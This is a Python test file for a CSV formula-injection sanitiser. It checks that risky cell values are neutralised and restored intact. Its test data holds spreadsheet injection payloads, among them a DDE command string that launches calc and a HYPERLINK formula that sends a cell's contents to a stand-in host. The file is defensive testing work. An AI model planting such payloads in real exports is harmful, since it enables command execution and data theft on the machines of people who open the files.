"""No cell runs, and every text comes back."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from foredesk.plumbing import cells

RISKY = [
    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "\n=1", " =1",
    '=HYPERLINK("http://t.example?x="&A1,"x")', "|cmd", '"=1', "'=1", "\uff1d1+1", "\uff0b1",
    "\uff0d1", "\uff20x", "=", "-5", "+49 30 1234", "\u00a0=1", "\u3000=1", "\ufeff=1", "\x0b=1",
    "a\n=1", "a,=1", ";=1", "a;=1", "a\t=1", 'a"=1', "''=1", "a;'=1",
    "'\r", "''\n1",
]  # fmt: skip
PLAIN = ["", "Tent", "What's up?", "5", "a - b", "cleo@mail.example", "1=1", "it's = fine", "'tis"]
SIGNS = st.text(alphabet="=+-@|'\" ;,\t\r\nab5\uff1d\uff20", max_size=12) | st.text(max_size=30)


def _cells_of_any_program(cell):
    """What a program may take for cells when it splits where the writer did not mean it to."""
    for sign in ';,\t\r\n"':
        yield from cell.split(sign)[1:]


@pytest.mark.parametrize("text", RISKY)
def test_a_formula_becomes_text_and_comes_back(text):
    cell = cells.harmless(text)
    assert cell != text
    assert cell.strip(' "')[:1] not in set("=+-@|\t\r\n\uff1d\uff0b\uff0d\uff20")
    for part in _cells_of_any_program(cell):
        assert part[:1] not in set("=+-@|\uff1d\uff0b\uff0d\uff20")
    assert cells.original(cell) == text


@pytest.mark.parametrize("text", PLAIN)
def test_what_is_no_formula_is_left_alone(text):
    assert cells.harmless(text) == text == cells.original(text)


@given(SIGNS)
def test_every_text_comes_back_through_a_file(text):
    out = io.StringIO()
    csv.writer(out, quoting=csv.QUOTE_ALL).writerow([cells.harmless(text), "x"])
    back, _ = next(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert cells.original(back) == text
